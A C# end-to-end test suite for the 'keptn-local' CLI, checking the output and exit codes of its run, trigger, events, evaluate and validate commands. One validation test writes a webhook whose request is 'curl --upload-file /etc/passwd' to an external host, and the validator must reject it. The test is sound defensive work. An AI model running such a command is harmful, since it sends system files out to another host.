using System.Text.Json.Nodes;
using System.Text.RegularExpressions;
using Keptn.Sdk.Api;
using Keptn.Sdk.CloudEvents;
using Keptn.Sdk.Events;

namespace Keptn.Sdk.EndToEnd.Tests;

/// <summary>The commands of keptn-local as a pipeline calls them: what they print, and their exit codes.</summary>
public sealed partial class KeptnLocalCommandTests : IDisposable
{
    private const string Shipyard = """
        apiVersion: spec.keptn.sh/0.2.2
        kind: Shipyard
        metadata:
          name: demo
        spec:
          stages:
            - name: dev
              sequences:
                - name: delivery
                  tasks:
                    - name: deployment
            - name: prod
              sequences:
                - name: delivery
                  triggeredOn:
                    - event: dev.delivery.finished
                  tasks:
                    - name: release
        """;

    private readonly string _folder = Directory.CreateTempSubdirectory("keptn-cli-").FullName;

    public KeptnLocalCommandTests() => File.WriteAllText(Path.Combine(_folder, "shipyard.yaml"), Shipyard);

    public void Dispose() => Directory.Delete(_folder, recursive: true);

    [Theory]
    [InlineData("pass", 0, "PASSED after")]
    [InlineData("warning", 0, "PASSED with a warning after")]
    [InlineData("fail", 1, "FAILED after")]
    public async Task Run_SequenceEnds_ShowsItAndExitsWithTheVerdict(string result, int exitCode, string verdict)
    {
        await using var run = KeptnLocalProcess.StartCommand("run", "dev.delivery", "--project", "demo", "--service", "carts", "--dir", _folder);
        using var client = await ConnectAsync(run);
        await AnswerAsync(client, "deployment", result, "deployed \u001b[31mred");
        if (exitCode == 0)
        {
            await AnswerAsync(client, "release", result, "out");
        }

        (await run.WaitForEndAsync()).Should().Be(exitCode);

        var output = string.Join('\n', run.Output);
        output.Should().Contain("dev  delivery  sequence begins for carts")
            .And.Contain("dev  deployment  test-service started")
            .And.MatchRegex($"dev  deployment  test-service finished after [0-9.]+ s: {result}: deployed")
            .And.Contain($"dev  delivery  sequence ends: {result}")
            .And.Contain(verdict)
            .And.NotContain("\u001b", "nothing drives the terminal, least of all an event");
        output.Contains("prod  release", StringComparison.Ordinal).Should().Be(exitCode == 0);
    }

    [Fact]
    public async Task Run_NobodyAnswers_SaysWhyAndWhoIsConnectedAndFailsAtItsTimeout()
    {
        var (exitCode, output, _) = await KeptnLocalAsync(
            "run", "dev.delivery", "--project", "demo", "--service", "carts", "--dir", _folder, "--timeout", "8s");

        exitCode.Should().Be(1);
        output.Should().Contain(line => line.Contains("Nobody has started task 'deployment' of carts in dev", StringComparison.Ordinal)
            && line.Contains("connected: nobody", StringComparison.Ordinal));
        output[^1].Should().Contain("FAILED").And.Contain("--timeout").And.Contain("aborted");
    }

    [Fact]
    public async Task Run_Interrupted_AbortsTheSequence()
    {
        await using var local = await KeptnLocalProcess.ServeAsync(_folder);
        await using var run = KeptnLocalProcess.StartCommand(
            "run", "dev.delivery", "-p", "demo", "-s", "carts", "--endpoint", local.Root.ToString(), "--token", "a-token");
        await run.ReadUntilAsync("asked for");

        var exitCode = await run.InterruptAsync();

        exitCode.Should().Be(130);
        using var client = Connect(local.Root, "a-token");
        (await client.Sequences.QueryAsync("demo").ToListAsync()).Should().ContainSingle().Which.State.Should().Be("aborted");
    }

    [Fact]
    public async Task Run_Json_IsOneObjectPerLineWithTheResultLast()
    {
        var data = Path.Combine(_folder, "data.json");
        await File.WriteAllTextAsync(data, """{"labels":{"a":"1"},"deployment":{"version":"2"}}""");
        await using var run = KeptnLocalProcess.StartCommand(
            "run", "prod.delivery", "-p", "demo", "-s", "carts", "--dir", _folder, "--json", "--data", data, "--label", "build=17", "--token", "my-token");
        var serving = JsonNode.Parse((await run.ReadUntilAsync("serving"))[^1])!;
        using var client = Connect(new Uri(serving["endpoint"]!.ToString()), "my-token");
        await AnswerAsync(client, "release", "pass", "done");

        (await run.WaitForEndAsync()).Should().Be(0);

        var lines = run.Output.Select(line => JsonNode.Parse(line)!.AsObject()).ToList();
        lines.Select(line => line["kind"]!.ToString()).Should().StartWith(["serving", "triggered", "event"]).And.EndWith("result");
        lines.Should().OnlyContain(line => !line.ToJsonString(null).Contains("my-token", StringComparison.Ordinal));
        lines[2]["event"]!["data"]!["labels"]!.ToJsonString().Should().Be("""{"a":"1","build":"17"}""");
        lines[2]["event"]!["data"]!["deployment"]!["version"]!.ToString().Should().Be("2");
        lines[^1]["success"]!.GetValue<bool>().Should().BeTrue();
        lines[^1]["sequences"]!.AsArray().Should().ContainSingle().Which!["message"]!.ToString().Should().Be("done");
    }

    [Fact]
    public async Task Run_WithAProgram_StartsItWithTheAddressAndSaysWhenItEnds()
    {
        var (exitCode, output, error) = await KeptnLocalAsync(
            "run", "dev.delivery", "-p", "demo", "-s", "carts", "--dir", _folder, "--timeout", "3s",
            "--", "sh", "-c", "echo I call $KEPTN_API_ENDPOINT; exit 3");

        exitCode.Should().Be(1);
        error.Should().MatchRegex(@"\| I call http://127\.0\.0\.1:[0-9]+/api");
        output.Should().Contain(line => line.Contains("sh has ended with exit code 3", StringComparison.Ordinal));
    }

    [Fact]
    public async Task TriggerEventsRun_AgainstARunningOne_Work()
    {
        await using var local = await KeptnLocalProcess.ServeAsync(_folder);
        string[] where = ["--endpoint", local.Root.ToString(), "--token", "a-token"];

        var trigger = await KeptnLocalAsync(["trigger", "dev.delivery", "-p", "demo", "-s", "carts", .. where]);
        var json = await KeptnLocalAsync(["trigger", "dev.delivery", "-p", "demo", "-s", "orders", "--json", .. where]);
        var context = trigger.Output.Should().ContainSingle().Which;
        var events = await KeptnLocalAsync(["events", "-p", "demo", "--context", context, .. where]);
        var one = await KeptnLocalAsync(["events", "-p", "demo", "--json", "--limit", "1", "--type", "sh.keptn.event.dev.delivery.triggered", .. where]);
        var none = await KeptnLocalAsync(["events", "-p", "demo", "--service", "nothing", .. where]);

        trigger.ExitCode.Should().Be(0);
        Guid.TryParse(context, out _).Should().BeTrue();
        JsonNode.Parse(json.Output.Single())!["keptnContext"]!.ToString().Should().NotBe(context);
        events.Output.Should().HaveCount(2);
        events.Output[0].Should().Contain("sh.keptn.event.dev.delivery.triggered  demo/dev/carts  from keptn-local");
        events.Output[1].Should().Contain("sh.keptn.event.deployment.triggered");
        JsonNode.Parse(one.Output.Single())!["data"]!["service"]!.ToString().Should().Be("orders");
        none.Output.Single().Should().Be("No events of project demo match.");
    }

    [Fact]
    public async Task Events_Follow_ShowsWhatComes()
    {
        await using var local = await KeptnLocalProcess.ServeAsync(_folder);
        await using var events = KeptnLocalProcess.StartCommand(
            "events", "-p", "demo", "--follow", "--endpoint", local.Root.ToString(), "--token", "a-token");
        await KeptnLocalAsync("trigger", "dev.delivery", "-p", "demo", "-s", "carts", "--endpoint", local.Root.ToString(), "--token", "a-token");

        await events.ReadUntilAsync("sh.keptn.event.deployment.triggered");

        (await events.InterruptAsync()).Should().Be(130);
    }

    [Fact]
    public async Task Evaluate_ResultComes_ShowsTheObjectivesAndExitsWithTheVerdict()
    {
        Write("dev/carts/slo.yaml", "spec_version: '1.0'\n");
        await using var local = await KeptnLocalProcess.ServeAsync(_folder, "--services", "none");
        await using var evaluate = KeptnLocalProcess.StartCommand(
            "evaluate", "-p", "demo", "--stage", "dev", "-s", "carts", "--timeframe", "10m", "--endpoint", local.Root.ToString(), "--token", "a-token");
        await evaluate.ReadUntilAsync("asked for");
        using var client = Connect(local.Root, "a-token");
        await AnswerAsync(client, "evaluation", "fail", string.Empty, """
            {"evaluation":{"score":20.5,"result":"fail","indicatorResults":[
              {"status":"fail","score":0,"value":{"metric":"response_time_p95","value":812.5,"success":true},"passTargets":[{"criteria":"<600","violated":true}]}]}}
            """);

        (await evaluate.WaitForEndAsync()).Should().Be(1);

        evaluate.Output.Should().Contain("score 20.5 of 100: fail");
        evaluate.Output[^1].Should().Be("  fail     response_time_p95 = 812.5  (pass: <600)");
    }

    [Fact]
    public async Task Validate_WebhookThatWouldNotRun_SaysWhy()
    {
        Write("dev/carts/webhook/webhook.yaml", """
            apiVersion: webhookconfig.keptn.sh/v1alpha1
            kind: WebhookConfig
            metadata:
              name: chat
            spec:
              webhooks:
                - type: sh.keptn.event.deployment.triggered
                  subscriptionID: one
                  requests:
                    - curl --upload-file /etc/passwd https://chat.example.com/{{.data.service}}
            """);

        var run = await KeptnLocalAsync("validate", _folder);

        run.ExitCode.Should().Be(1);
        run.Output.Should().ContainSingle(line => line.Contains("webhook.yaml:", StringComparison.Ordinal) && line.Contains("error", StringComparison.Ordinal))
            .Which.Should().Contain("--upload-file");
    }

    [Fact]
    public async Task Validate_ScriptsThatNeverRunOrCannotBeSent_SaysWhich()
    {
        Write("dev/carts/generic-executor/test.trigger.sh", "echo test");
        Write("dev/carts/generic-executor/test.triggered.sh", "echo test");
        Write("dev/generic-executor/release.triggered.http", "POST https://chat.example.com/${project}\nno header\n");
        Write("dev/generic-executor/README.md", "No script.");

        var run = await KeptnLocalAsync("validate", _folder);

        run.ExitCode.Should().Be(1);
        run.Output.Should().Contain(line => line.Contains("test.trigger.sh: warning: never runs", StringComparison.Ordinal));
        run.Output.Should().Contain(line => line.Contains("release.triggered.http:2: error: a header must be", StringComparison.Ordinal));
        run.Output.Should().NotContain(line => line.Contains("test.triggered.sh", StringComparison.Ordinal) || line.Contains("README", StringComparison.Ordinal));
        run.Output[^1].Should().StartWith("FAILED: 4 files, 1 error, 1 warning");
    }

    [Fact]
    public async Task Validate_JobThatNeverMatches_IsWarnedOf()
    {
        Write("dev/carts/job/config.yaml", """
            apiVersion: v2
            actions:
              - name: load
                events:
                  - name: "*"
                  - name: sh.keptn.event.test.triggered
                    jsonpath:
                      property: $.data.items[*]
                      match: one
                tasks:
                  - name: run
                    image: docker.io/library/alpine:3.20
            """);

        var run = await KeptnLocalAsync("validate", _folder);

        run.ExitCode.Should().Be(0);
        run.Output.Should().Contain(line => line.Contains("config.yaml: warning: actions[0].events[0].name: it never matches", StringComparison.Ordinal));
        run.Output.Should().Contain(line => line.Contains("warning: actions[0].events[1].jsonpath.property: it never matches: it finds a list", StringComparison.Ordinal));
    }

    [Fact]
    public async Task Validate_BadFiles_NamesFileLineFieldAndReason()
    {
        Write("dev/carts/slo.yaml", "spec_version: '1.0'\nobjectives:\n  - sli: rt\n    pass: nothing\ntotal_score:\n  pass: 90%\n");
        Write("dev/carts/webhook/webhook.yaml", "kind: WebhookConfig\n");
        Write("dev/carts/job/config.yaml", "apiVersion: v2\nactions:\n  - name: x\n    tasks:\n      - image: 7\n        name: []\n");
        Write("dev/carts/notes.yaml", "not: ours");

        var text = await KeptnLocalAsync("validate", _folder);
        var json = await KeptnLocalAsync("validate", _folder, "--json");

        text.ExitCode.Should().Be(1);
        text.Output.Should().Contain(line => line.StartsWith($"{Path.Combine(_folder, "dev/carts/slo.yaml")}:4: error: objectives[0].pass: ", StringComparison.Ordinal));
        text.Output.Should().Contain(line => line.Contains("webhook.yaml", StringComparison.Ordinal) && line.Contains("error", StringComparison.Ordinal));
        text.Output.Should().Contain(line => line.Contains("job/config.yaml", StringComparison.Ordinal) && line.Contains("error", StringComparison.Ordinal));
        text.Output[^1].Should().MatchRegex("^FAILED: 4 files, [0-9]+ errors, ");
        json.ExitCode.Should().Be(1);
        var lines = json.Output.Select(line => JsonNode.Parse(line)!).ToList();
        lines.Should().Contain(line => line["fileKind"] != null && line["fileKind"]!.ToString() == "slo" && line["line"]!.GetValue<int>() == 4);
        lines[^1]["success"]!.GetValue<bool>().Should().BeFalse();
    }

    [Fact]
    public async Task Validate_GoodAndEmptyFolder_AreToldApart()
    {
        var good = await KeptnLocalAsync("validate", _folder);
        File.Delete(Path.Combine(_folder, "shipyard.yaml"));
        var empty = await KeptnLocalAsync("validate", _folder);
        var missing = await KeptnLocalAsync("validate", Path.Combine(_folder, "missing"));

        good.Should().BeEquivalentTo((0, new[] { "OK: 1 file, 0 errors, 0 warnings" }, string.Empty));
        empty.ExitCode.Should().Be(1);
        empty.Output[^1].Should().Contain("there is no file of Keptn");
        missing.ExitCode.Should().Be(2);
        missing.Error.Should().Contain("there is no folder");
    }

    [Theory]
    [InlineData("Required argument 'stage.sequence' missing", "run")]
    [InlineData("'dev' is not stage.sequence", "run", "dev", "-p", "demo", "-s", "carts")]
    [InlineData("--timeout 'soon' is no duration", "run", "dev.delivery", "-p", "demo", "-s", "carts", "--timeout", "soon")]
    [InlineData("--label 'x' is not name=value", "run", "dev.delivery", "-p", "demo", "-s", "carts", "--label", "x")]
    [InlineData("--data missing.json: Could not find file", "run", "dev.delivery", "-p", "demo", "-s", "carts", "--data", "missing.json")]
    [InlineData("There is no project 'demo', nor any other", "run", "dev.delivery", "-p", "demo", "-s", "carts")]
    [InlineData("no connection to 127.0.0.1:1", "trigger", "dev.delivery", "-p", "demo", "-s", "carts", "--endpoint", "http://127.0.0.1:1", "--token", "t")]
    [InlineData("--token is missing", "events", "-p", "demo", "--endpoint", "http://127.0.0.1:1")]
    [InlineData("--endpoint 'nowhere' is no address", "events", "-p", "demo", "--endpoint", "nowhere")]
    [InlineData("--start 'noon' is no time", "evaluate", "-p", "demo", "--stage", "dev", "-s", "carts", "--start", "noon")]
    [InlineData("--port must be from 0 to 65535, it is 99999", "serve", "--port", "99999")]
    [InlineData("--port must be from 0 to 65535, it is -1", "run", "dev.delivery", "-p", "demo", "-s", "carts", "--port", "-1")]
    [InlineData("--listen 0.0.0.0 needs --token", "serve", "--listen", "0.0.0.0", "--token", "")]
    [InlineData("Unrecognized command or argument 'rnu'", "rnu")]
    public async Task WrongInput_AnyCommand_IsNamedAndExitsWithTwo(string expected, params string[] arguments)
    {
        var (exitCode, _, error) = await KeptnLocalAsync(arguments);

        exitCode.Should().Be(2);
        error.Should().StartWith("keptn-local: ").And.Contain(expected).And.NotContain("   at ");
    }

    [Theory]
    [InlineData("There is no project 'dmo'. Did you mean 'demo'? The projects: demo, other.", "dev.delivery", "dmo", "carts")]
    [InlineData("Project demo has no stage 'dve'. Did you mean 'dev'? Its stages: dev, prod.", "dve.delivery", "demo", "carts")]
    [InlineData("Project demo has no stage 'hardening'. Its stages: dev, prod.", "hardening.delivery", "demo", "carts")]
    [InlineData("has no sequence 'Delivry'. Did you mean 'delivery'? Its sequences: delivery, evaluation.", "dev.Delivry", "demo", "carts")]
    [InlineData("has no service 'cart'; create it first if that is its name. Did you mean 'carts'? Its services: carts, orders.", "dev.delivery", "demo", "cart")]
    public async Task RunAndTrigger_NameThatIsNotThere_SayWhatThereIsAndExitWithTwo(string expected, string sequence, string project, string service)
    {
        foreach (var name in (string[])["demo", "other"])
        {
            Write($"all/{name}/shipyard.yaml", Shipyard);
            Write($"all/{name}/dev/carts/slo.yaml", "spec_version: '1.0'\n");
            Write($"all/{name}/dev/orders/slo.yaml", "spec_version: '1.0'\n");
        }

        var folder = Path.Combine(_folder, "all");
        await using var local = await KeptnLocalProcess.ServeAsync(folder);

        var run = await KeptnLocalAsync("run", sequence, "-p", project, "-s", service, "--dir", folder, "--", "nothing-there");
        var trigger = await KeptnLocalAsync(
            "trigger", sequence, "-p", project, "-s", service, "--endpoint", local.Root.ToString(), "--token", "a-token");

        run.ExitCode.Should().Be(2);
        run.Error.Should().StartWith("keptn-local: ").And.Contain(expected);
        trigger.ExitCode.Should().Be(2);
        trigger.Error.Should().Be(run.Error);
        using var client = Connect(local.Root, "a-token");
        (await client.Sequences.QueryAsync("demo").ToListAsync()).Should().BeEmpty();
    }

    [Theory]
    [InlineData("invoices")]
    [InlineData("orders-2")]
    public async Task Trigger_ServiceWithoutFiles_IsNoMistake(string service)
    {
        Write("dev/carts/slo.yaml", "spec_version: '1.0'\n");
        Write("dev/orders-1/slo.yaml", "spec_version: '1.0'\n");
        await using var local = await KeptnLocalProcess.ServeAsync(_folder);

        var trigger = await KeptnLocalAsync(
            "trigger", "dev.delivery", "-p", "demo", "-s", service, "--endpoint", local.Root.ToString(), "--token", "a-token");

        trigger.ExitCode.Should().Be(0);
    }

    [Fact]
    public async Task Run_ProgramThatIsNotThere_SaysSoAndExitsWithTwo()
    {
        var (exitCode, _, error) = await KeptnLocalAsync("run", "dev.delivery", "-p", "demo", "-s", "carts", "--dir", _folder, "--", "nothing-there");

        exitCode.Should().Be(2);
        error.Should().StartWith("keptn-local: nothing-there cannot be started");
    }

    [Fact]
    public async Task Run_ShipyardThatCannotBeUsed_NamesThePlaceAndExitsWithTwo()
    {
        Write("shipyard.yaml", Shipyard.Replace("stages:", "stages: 7 #", StringComparison.Ordinal));

        var (exitCode, _, error) = await KeptnLocalAsync("run", "dev.delivery", "-p", "demo", "-s", "carts", "--dir", _folder);

        exitCode.Should().Be(2);
        error.Should().StartWith("keptn-local: ").And.Contain("shipyard.yaml");
    }

    [Theory]
    [InlineData("serve")]
    [InlineData("run")]
    [InlineData("validate")]
    [InlineData("init")]
    [InlineData("trigger")]
    [InlineData("events")]
    [InlineData("evaluate")]
    public async Task Help_EveryCommand_HasExamplesOfItself(string command)
    {
        var (exitCode, output, error) = await KeptnLocalAsync(command, "--help");

        exitCode.Should().Be(0);
        error.Should().BeEmpty();
        output.SkipWhile(line => line != "Examples:").Skip(1).Should().NotBeEmpty()
            .And.OnlyContain(line => line.StartsWith($"  keptn-local {command}", StringComparison.Ordinal));
    }

    private static Task<(int ExitCode, string[] Output, string Error)> KeptnLocalAsync(params string[] arguments) =>
        SampleProcess.RunProgramAsync(KeptnLocalProcess.Program, arguments);

    private static KeptnApiClient Connect(Uri address, string token) => KeptnApiClient.Create(options =>
    {
        options.Endpoint = new Uri(address, "/api");
        options.Token = token;
    });

    private static async Task<KeptnApiClient> ConnectAsync(KeptnLocalProcess run)
    {
        var found = Address().Match((await run.ReadUntilAsync("KEPTN_API_ENDPOINT="))[^1]);
        return Connect(new Uri(found.Groups[1].Value), found.Groups[2].Value);
    }

    /// <summary>Waits for a task, and answers it as a service does.</summary>
    private static async Task AnswerAsync(KeptnApiClient client, string task, string result, string message, string data = "{}")
    {
        CloudEvent? triggered = null;
        using var patience = new CancellationTokenSource(KeptnLocalProcess.Patience);
        while (triggered is null)
        {
            triggered = await client.TriggeredEvents
                .QueryAsync(KeptnEventType.Triggered(task), new TriggeredEventQuery { Project = "demo" }, patience.Token).FirstOrDefaultAsync(patience.Token);
        }

        var content = JsonNode.Parse(triggered.Data.Bytes.Span)!.AsObject();
        foreach (var (name, value) in JsonNode.Parse(data)!.AsObject())
        {
            content[name] = value?.DeepClone();
        }

        content["status"] = "succeeded";
        content["result"] = result;
        content["message"] = message;
        foreach (var kind in (string[])[KeptnEventKinds.Started, KeptnEventKinds.Finished])
        {
            await client.Events.SendAsync(new CloudEvent
            {
                Id = Guid.NewGuid().ToString(),
                Source = "test-service",
                Type = KeptnEventType.Parse(triggered.Type!).WithKind(kind),
                Data = CloudEventData.FromJson(content.ToJsonString()),
                [KeptnAttributeNames.KeptnContext] = triggered.KeptnContext,
                [KeptnAttributeNames.TriggeredId] = triggered.Id,
            });
        }
    }

    private void Write(string path, string content)
    {
        var file = Path.Combine(_folder, path);
        Directory.CreateDirectory(Path.GetDirectoryName(file)!);
        File.WriteAllText(file, content);
    }

    [GeneratedRegex("KEPTN_API_ENDPOINT=([^ ]+) KEPTN_API_TOKEN=([0-9a-f]+)")]
    private static partial Regex Address();
}
